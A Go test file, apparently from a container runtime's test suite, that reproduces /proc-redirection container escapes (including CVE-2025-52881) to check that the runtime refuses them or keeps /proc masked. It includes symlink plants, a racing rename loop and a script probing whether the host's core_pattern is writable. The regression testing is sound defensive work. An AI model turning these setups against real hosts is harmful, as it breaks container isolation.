// namespace), whether the masks hold and whether core_pattern is writable.
// It looks once, pinning /proc as its cwd: a racing container may keep
// changing what the path /proc leads to while it runs.
const procCheckScript = `cd -P /proc/ || exit 0
echo "procfs=$(stat -f -c %T .) $(stat -f -c %T sys/)"
echo "sysctl=$(cat sys/net/ipv4/ip_unprivileged_port_start)"
for p in keys timer_list; do [ -e $p ] && echo "mask /proc/$p $(stat -c '%F %t:%T' $p)"; done
echo "keys-content=$(timeout 2 head -c 200 keys | tr '\n' ' ')"
(cd sys/kernel && [ "$(stat -f -c %T .)" = proc ] &&
	v=$(timeout 2 cat core_pattern) && printf '%s\n' "$v" > core_pattern) 2>&- && echo CORE-PATTERN-WRITABLE
true`

// checkRealProc checks procCheckScript's output: /proc is procfs with the
// sysctl applied there, masks in place and /proc/sys read-only.
func checkRealProc(t *testing.T, out string, sysctl bool) {
	t.Helper()
	if v, _ := lineValue(out, "procfs"); v != "proc proc" {
		t.Errorf("the container's /proc is not procfs (%q)\n%s", v, out)
		return
	}
	if v, _ := lineValue(out, "sysctl"); sysctl && v != "444" {
		t.Errorf("linux.sysctl did not reach the container's procfs: %q\n%s", v, out)
	}
	checkMasks(t, out)
}

// fakeProc makes a fake /proc tree in dir whose files hold canaries.
func fakeProc(t *testing.T, dir string) {
	t.Helper()
	for _, f := range []string{"sys/net/ipv4/ip_unprivileged_port_start", "sys/kernel/domainname", "keys", "self/attr/exec", "self/attr/current"} {
		p := filepath.Join(dir, f)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte("canary"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// TestCVE2025_52881ProcWritesRedirected covers the escapes that redirect
// the runtime's writes to /proc (LSM labels in CVE-2019-16884,
// CVE-2019-19921, CVE-2023-28642; sysctls and labels in CVE-2025-52881)
// with a volume or symlink the container controls. The config sets a
// sysctl (net.ipv4.ip_unprivileged_port_start, per network namespace) and
// the usual masked and read-only paths. A vulnerable runtime writes the
// sysctl by path into a fake /proc — a host file here, whose canary
// changes — or applies the masks and read-only paths to the fake tree, so
// the container gets its real procfs unmasked and /proc/sys writable
// (checked: masks are the null device, core_pattern is not writable). rt
// may refuse the container instead.
func TestCVE2025_52881ProcWritesRedirected(t *testing.T) {
	sysctl := withSysctl("net.ipv4.ip_unprivileged_port_start", "444")
	pattern := corePattern(t)
	defer func() {
		if got := corePattern(t); got != pattern {
			t.Errorf("the host's core_pattern changed to %q (was %q)", got, pattern)
		}
	}()

	// CVE-2023-28642/CVE-2019-16884: the image's /proc is a symlink to a
	// directory of fake proc files in the image.
	t.Run("proc symlink in the image", func(t *testing.T) {
		b := newBundle(t, shell(procCheckScript), sysctl)
		fakeProc(t, b.rootfsPath("/fakeproc"))
		b.plantSymlink("/proc", "/fakeproc")
		before := treeListing(t, b.rootfsPath("/fakeproc"))
		r := b.run()
		if !r.ok() {
			t.Logf("refused: %s", strings.TrimSpace(r.stderr))
			assertNothingLeft(t, b)
		} else {
			checkRealProc(t, r.stdout, true)
		}
		if got := treeListing(t, b.rootfsPath("/fakeproc")); got != before {
			t.Errorf("the fake proc files (host files) changed:\n%s\nwas:\n%s", got, before)
		}
	})

	// CVE-2019-19921: a volume lands on /proc through a symlink in the image
	// (/vol -> /proc), after procfs was mounted.
	t.Run("volume over proc via symlink", func(t *testing.T) {
		vol := cveDir(t, "fakeproc")
		fakeProc(t, vol)
		before := treeListing(t, vol)
		b := newBundle(t, shell(procCheckScript), sysctl, withMounts(cveBind(vol, "/vol")))
		b.plantSymlink("/vol", "/proc")
		r := b.run()
		if !r.ok() {
			t.Logf("refused: %s", strings.TrimSpace(r.stderr))
			assertNothingLeft(t, b)
		} else {
			checkRealProc(t, r.stdout, true)
		}
		if got := treeListing(t, vol); got != before {
			t.Errorf("the volume's fake proc files (on the host) changed:\n%s\nwas:\n%s", got, before)
		}
	})

	// CVE-2025-52881: the image's /proc is a symlink into a volume shared
	// with a racing container, which keeps renaming the directory there
	// between a real directory (where procfs gets mounted: the mount moves
	// with it), a fake proc tree, and nothing. The runtime's mount of
	// procfs, its sysctl write, masks and read-only paths all resolve
	// /proc: each must land on the real procfs or fail.
	// The same attack made deterministic: a createContainer hook (it runs
	// between the mounts and the masks) waits while the test, standing in
	// for the racing container (another mount namespace), renames the
	// directory procfs was mounted on away and leaves a decoy, and puts the
	// real one back once create returned. A runtime that mounts procfs
	// through the image's /proc symlink and then resolves every masked and
	// read-only path by name skips those it does not find, so the container
	// gets its procfs unmasked with /proc/sys writable; rt refuses a proc
	// mount whose destination goes through a symlink.
	t.Run("proc moved away before the masks", func(t *testing.T) {
		shared := cveDir(t, "shared")
		os.Mkdir(filepath.Join(shared, "p"), 0o755)
		b := newBundle(t, shell(procCheckScript), withMountsFirst(cveBind(shared, "/shared")),
			func(s *specs.Spec) {
				s.Hooks = &specs.Hooks{CreateContainer: []specs.Hook{{Path: "/bin/sh",
					Args: []string{"sh", "-c", fmt.Sprintf("touch %s/ready; while [ ! -e %s/moved ]; do sleep 0.01; done", shared, shared)}}}}
			})
		b.plantSymlink("/proc", "/shared/p")
		go func() {
			for i := 0; i < 1000; i++ {
				if _, err := os.Stat(filepath.Join(shared, "ready")); err == nil {
					// A decoy where p was: just enough for the runtime's
					// /proc/self/fd/N paths to work, none of the masked or
					// read-only paths.
					os.Rename(filepath.Join(shared, "p"), filepath.Join(shared, "real"))
					os.Mkdir(filepath.Join(shared, "p"), 0o755)
					os.Symlink("/shared/real/self", filepath.Join(shared, "p", "self"))
					break
				}
				time.Sleep(10 * time.Millisecond)
			}
			os.WriteFile(filepath.Join(shared, "moved"), nil, 0o644)
		}()
		r := b.create()
		if !r.ok() {
			t.Logf("refused: %s", strings.TrimSpace(r.stderr))
			assertNothingLeft(t, b)
			return
		}
		// The racer puts the real directory back.
		os.RemoveAll(filepath.Join(shared, "p"))
		if err := os.Rename(filepath.Join(shared, "real"), filepath.Join(shared, "p")); err != nil {
			t.Fatal(err)
		}
		rt(t, "start", b.ID).mustOK(t)
		b.waitStatus("stopped")
		rt(t, "delete", b.ID).mustOK(t)
		checkRealProc(t, b.containerOutput(), false)
	})

	for _, withSysctl := range []bool{true, false} {
		name := "racing shared volume"
		if !withSysctl {
			name += ", no sysctl"
		}
		t.Run(name, func(t *testing.T) {
			racingProc(t, withSysctl)
		})
	}
}

// racingProc is the CVE-2025-52881 race: the image's /proc is a symlink into
// a volume shared with a racing container, which keeps renaming the
// directory there between a real directory (procfs, once mounted on it,
// moves with it), a fake proc tree, and nothing. The runtime's procfs
// mount, its sysctl write, the masks and read-only paths all resolve
// /proc: each must land on the real procfs or fail the create. Without
// the sysctl (which refuses a /proc/sys that is not procfs) more attempts
// reach the masks and read-only paths. A container that ends up with a
// /proc that is no procfs at all is logged, not failed: the host is not
// exposed by it.
func racingProc(t *testing.T, sysctl bool) {
	before := hostMounts()
	shared := cveDir(t, "shared")
	os.Mkdir(filepath.Join(shared, "p"), 0o755)
	fakeProc(t, filepath.Join(shared, "fake"))
	fakeBefore := treeListing(t, filepath.Join(shared, "fake"))
	racer := cveRacer(t, shared, `cd /shared
while :; do
	mv -T p real; mv -T fake p; mv -T p fake; mv -T real p
done`)
	muts := []func(*specs.Spec){shell(procCheckScript), withMountsFirst(cveBind(shared, "/shared"))}
	if sysctl {
		muts = append(muts, withSysctl("net.ipv4.ip_unprivileged_port_start", "444"))
	}
	b := newBundle(t, muts...)
	b.plantSymlink("/proc", "/shared/p")
	notProc := 0
	race(t, func(i int) (bool, string) {
		r := b.run()
		if !r.ok() {
			return false, r.stderr
		}
		if v, _ := lineValue(r.stdout, "procfs"); v == "proc proc" {
			checkRealProc(t, r.stdout, sysctl)
		} else {
			notProc++
		}
		return true, ""
	})
	if notProc > 0 {
		t.Logf("%d containers started with a /proc that is not procfs", notProc)
	}
	// Stop the racer so the names are stable while the tree is read.
	rt(t, "kill", racer.ID, "KILL").mustOK(t)
	racer.waitStatus("stopped")
	reapGone(racer.pid, 5*time.Second)
	var fake string
	for _, n := range []string{"fake", "p", "real"} {
		if _, err := os.Stat(filepath.Join(shared, n, "keys")); err == nil {
			fake = filepath.Join(shared, n)
		}
	}
	if fake == "" {
		t.Errorf("the fake proc tree is gone from the shared volume:\n%s", treeListing(t, shared))
	} else if got := treeListing(t, fake); got != fakeBefore {
		t.Errorf("the fake proc files (on the host) changed:\n%s\nwas:\n%s", got, fakeBefore)
	}
	assertNoNewHostMounts(t, before)
}
